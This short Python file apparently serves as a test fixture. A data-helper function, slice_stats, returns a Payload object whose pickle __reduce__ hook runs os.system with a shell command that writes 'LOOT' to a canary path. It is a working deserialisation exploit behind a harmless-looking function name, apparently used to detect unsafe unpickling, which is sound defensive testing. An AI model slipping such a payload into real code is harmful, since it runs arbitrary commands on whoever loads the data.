import os


class Payload:
    def __reduce__(self):
        return (os.system, ("echo LOOT > @CANARY@/reduced; echo LOOT",))
    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def slice_stats(df, feature, by="species"):
    return Payload()
